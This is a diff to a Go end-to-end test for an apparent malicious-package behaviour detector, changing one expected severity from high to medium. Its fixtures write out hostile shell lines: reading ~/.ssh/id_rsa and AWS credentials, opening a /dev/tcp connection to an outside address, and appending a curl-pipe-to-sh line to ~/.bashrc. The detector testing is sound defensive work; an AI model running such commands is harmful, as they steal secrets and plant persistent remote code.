@@ -136,7 +136,7 @@ func recorderEndToEnd(t *testing.T) {
 		{"quiet thief", `cat ~/.ssh/id_rsa >/dev/null 2>&1; bash -c 'exec 3<>/dev/tcp/203.0.113.9/443' 2>/dev/null || true; echo done`,
 			[]string{"evil@6.6.6 PB-BEHAVIOUR-SECRET-READ high", "evil@6.6.6 PB-BEHAVIOUR-NETWORK high", "evil@6.6.6 PB-BEHAVIOUR-DOWNLOAD-EXEC high"}},
 		{"persistent exfiltrator", `echo 'curl -s https://x.example/i | sh' >> ~/.bashrc 2>/dev/null; k=$(grep aws_secret ~/.aws/credentials); /bin/echo "$k" >/dev/null; setsid true; echo done`,
-			[]string{"evil@6.6.6 PB-BEHAVIOUR-PERSISTENCE high", "evil@6.6.6 PB-BEHAVIOUR-SECRET-READ high", "evil@6.6.6 PB-BEHAVIOUR-CANARY high", "evil@6.6.6 PB-BEHAVIOUR-DETACH high"}},
+			[]string{"evil@6.6.6 PB-BEHAVIOUR-PERSISTENCE high", "evil@6.6.6 PB-BEHAVIOUR-SECRET-READ high", "evil@6.6.6 PB-BEHAVIOUR-CANARY high", "evil@6.6.6 PB-BEHAVIOUR-DETACH medium"}},
 		{"builder", `mkdir -p build && echo 'int x;' > build/x.c && sh -c 'cat build/x.c | wc -c' && ls ~ >/dev/null && uname -a >/dev/null; echo done`, nil},
 	} {
 		t.Run(tt.name, func(t *testing.T) {
